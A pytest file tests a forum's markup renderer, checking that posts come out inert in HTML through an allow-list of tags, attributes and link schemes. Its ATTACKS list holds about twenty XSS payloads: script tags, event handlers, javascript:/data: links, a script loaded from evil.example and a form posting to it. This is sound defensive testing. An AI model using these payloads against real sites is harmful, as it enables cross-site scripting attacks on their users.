"""No post can run anything in a reader's browser: raw HTML is text, links keep only
http(s)/mailto targets, and what Markdown makes is filtered by an allow-list."""

from __future__ import annotations

import re

import pytest

from server.forum.markup import excerpt, render
from tests.forum.conftest import POSTS, Forum, open_thread, reply

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">pulsa</a>",
    "[pulsa](javascript:alert(1))",
    "[pulsa](JaVaScRiPt:alert(1))",
    "[pulsa](vbscript:msgbox(1))",
    "[pulsa](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.png)",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p onclick=alert(1)>x</p>",
    "<<script>script>alert(1)<</script>/script>",
    "<!-- <script>alert(1)</script> -->",
    "`<script>` dentro de código y <b>negritas</b>",
    "<form action=https://evil.example><input name=pin></form>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "[a](https://ok.example \"t\" onmouseover=alert(1))",
]

# What may appear in rendered HTML: these tags and no attribute but href/title/start/rel.
ALLOWED_TAG = re.compile(r"</?(p|br|strong|em|code|pre|blockquote|ul|ol|li|a|h[1-6]|hr)\b")


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for tag in re.findall(r"<[^>]*>", html):  # real tags: a "<" of the text is "&lt;"
        assert ALLOWED_TAG.match(tag), (tag, html)
        for attr in re.findall(r"\s([a-z-]+)=", tag.lower()):
            assert attr in ("href", "title", "start", "rel"), (attr, html)
        for href in re.findall(r'href="([^"]*)"', tag.lower()):
            assert href.startswith(("http://", "https://", "mailto:")), (href, html)
    assert "<script" not in lowered and "<img" not in lowered and "<svg" not in lowered


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("fmt", ["markdown", "plain"])
def test_nothing_executable_survives(attack: str, fmt: str) -> None:
    assert_inert(render(attack, fmt))


def test_markdown_formats_and_links_are_marked_as_user_content() -> None:
    html = render("**Urgente**: el *motor* falla.\n\n- uno\n- dos\n\n"
                  "[Reglamento](https://www.gob.mx/conapesca)", "markdown")
    assert "<strong>Urgente</strong>" in html and "<em>motor</em>" in html
    assert "<ul>\n<li>uno</li>" in html
    assert ('<a href="https://www.gob.mx/conapesca" rel="nofollow noopener ugc">Reglamento</a>'
            in html)


def test_plain_text_keeps_its_lines_and_shows_tags_as_text() -> None:
    assert render("hola <b>todos</b>\nsegunda línea\n\n\notro párrafo", "plain") == (
        "<p>hola &lt;b&gt;todos&lt;/b&gt;<br>segunda línea</p><p>otro párrafo</p>")


def test_excerpt_is_plain_text_cut_at_a_word() -> None:
    assert excerpt("# Título\n\nEl **motor** falla", "markdown") == "Título El motor falla"
    long = excerpt("palabra " * 100, "plain", 50)
    assert len(long) <= 50 and long.endswith("…") and "  " not in long


def test_through_the_api_the_stored_html_is_inert_and_the_source_kept(forum: Forum) -> None:
    body = "\n\n".join(ATTACKS)
    t = open_thread(forum.fisher, body=body, format="markdown")
    assert t["opening"]["body"] == body  # as written, for the author to edit
    assert_inert(t["opening"]["html"])
    r = reply(forum.other, t["id"], body)
    assert_inert(r["html"])
    edited = forum.other.api.patch(f"{POSTS}/{r['id']}", {"body": ATTACKS[0], "format": "markdown"})
    assert_inert(edited.get_json()["html"])
    assert edited.get_json()["html"] == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
